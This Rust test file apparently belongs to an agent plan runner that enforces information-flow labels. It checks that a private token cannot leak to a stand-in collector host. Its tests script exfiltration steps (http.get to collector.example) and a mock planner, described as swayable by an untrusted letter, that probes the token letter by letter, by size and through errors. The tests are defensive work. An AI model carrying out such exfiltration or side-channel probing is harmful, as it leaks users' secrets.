//! What decides whether a call is made is in the call: conditions give nothing away, and let nobody choose who may not.

use crate::{
    model_server::{APIS, Answer, ModelServer},
    program::{Ended, Place},
    scripts::place,
    server::Server,
};
use http::Response;
use http_body_util::Full;
use serde_json::{Value, json};

/// A plan's own steps, of which the last one sends something if `when`.
fn steps(url: &str, when: &str, after: &str) -> String {
    format!(
        r#"
[[step]]
id = "letter"
tool = "files.read"
args = {{ path = "inbox/letter" }}
mounts = {{ inbox = {{ access = "read" }} }}
[[step]]
id = "token"
tool = "files.read"
args = {{ path = "private/token" }}
mounts = {{ private = {{ access = "read" }} }}
{after}
[[step]]
id = "send"
tool = "http.get"
args = {{ url = "{url}" }}
on_failure = "continue"
{when}
"#
    )
}

fn collector() -> (Server, String) {
    let server = Server::start(|_| Response::new(Full::new("thanks".into())));
    let url = format!("http://collector.example:{}/", server.address.port());
    (server, url)
}

#[track_caller]
fn check(when: &str, more: &str, arrives: bool, expected: &[&str]) -> (Place, Ended) {
    let (server, url) = collector();
    let place = place("", &steps(&url, when, more));
    let ended = place.run(&["run", "plan.toml"]);
    assert_eq!(!server.asked().is_empty(), arrives, "{when}: {ended:?}");
    ended.expect(0, &[]);
    let explained = place.run(&["explain", ended.stdout.trim(), "send"]);
    explained.expect(0, expected);
    (place, ended)
}

#[test]
fn a_condition_is_in_the_call() {
    let both = "when = \"steps.token.result.text.startsWith('t') && steps.letter.result.text != ''\"";
    check(both, "", false, &["mount:private (private)", "mount:inbox (untrusted)", "chosen by plan"]);
    // One of the two alone may leave, and order alone decides nothing.
    check("when = \"steps.token.result.text.startsWith('t')\"", "", true, &["chosen by plan, mount:private (private)"]);
    check("after = [\"token\", \"letter\"]", "", true, &["chosen by plan\n"]);
    // What decides on a step is in its result, and so in what that decides.
    let between = "[[step]]\nid = \"between\"\ntool = \"text.count\"\nargs = { text = \"x\" }\nwhen = \"steps.token.result.text.startsWith('t') && steps.letter.result.text != ''\"";
    check("when = \"steps.between.result.bytes == 1\"", between, false, &["mount:private (private)"]);
    check("when = \"steps.between.state == 'done'\"", between, false, &["mount:private (private)"]);
}

/// A model that is not shown a token asks about it, letter by letter, and sends what it has found out.
#[test]
fn a_planner_cannot_ask_its_way_to_what_it_is_not_shown() {
    let guess = |id: &str, letter: &str| json!({ "id": id, "tool": "text.count", "args": { "text": "x" }, "when": format!("steps.t1_1.result.text.startsWith('{letter}')") });
    let size = json!({ "id": "size", "tool": "text.count", "args": { "text": "${{ steps.t1_1.result.text }}" } });
    // Fails where the token begins so: jq says an error.
    let fails = json!({ "id": "fails", "tool": "files.read", "args": { "path": "private/${{ steps.t1_1.result.text }}" }, "on_failure": "continue" });
    let probes: [Vec<Value>; 3] = [vec![guess("is_a", "a"), guess("is_t", "t")], vec![size], vec![fails]];
    for probe in probes {
        let (server, url) = collector();
        let send = json!({ "id": "send", "tool": "http.get", "args": { "url": format!("{url}?begins=t") }, "on_failure": "continue" });
        let model = ModelServer::says(vec![
            Answer::calls(&[
                ("files.read", json!({ "path": "private/token" })),
                ("files.read", json!({ "path": "inbox/letter" })),
            ]),
            Answer::call("propose_plan", json!({ "steps": probe })),
            Answer::call("propose_plan", json!({ "steps": [send] })),
            Answer::call("finish", json!({ "summary": "done" })),
        ]);
        let planner = format!(
            "[planner]\nname = \"curious\"\napi = \"{}\"\nurl = \"{}\"\nmodel = \"m\"\n",
            APIS[0].0,
            model.url()
        );
        let place = place("", &planner);
        let policy = place.read("policy.cedar");
        // The letter is shown, and may talk the model into anything.
        let hides = "\n@id(\"hides\") forbid (principal, action == Action::\"reveal\", resource) when { context.labels.all.contains(\"private\") };";
        place.write("policy.cedar", &(policy + hides));
        let ended = place.run(&["run", "plan.toml"]);
        ended.expect(0, &["t1_1: its shape only", "send: why it failed"]);
        let report = place.run(&["report", ended.stdout.trim()]);
        report.expect(0, &["no-private-data-out", "shape:mount:private (private)"]);
        assert!(server.asked().is_empty(), "{ended:?}");
        let told = model.asked().iter().map(|asked| asked.body.to_string()).collect::<String>();
        assert!(!told.contains("tok-1"), "{told}");
    }
}
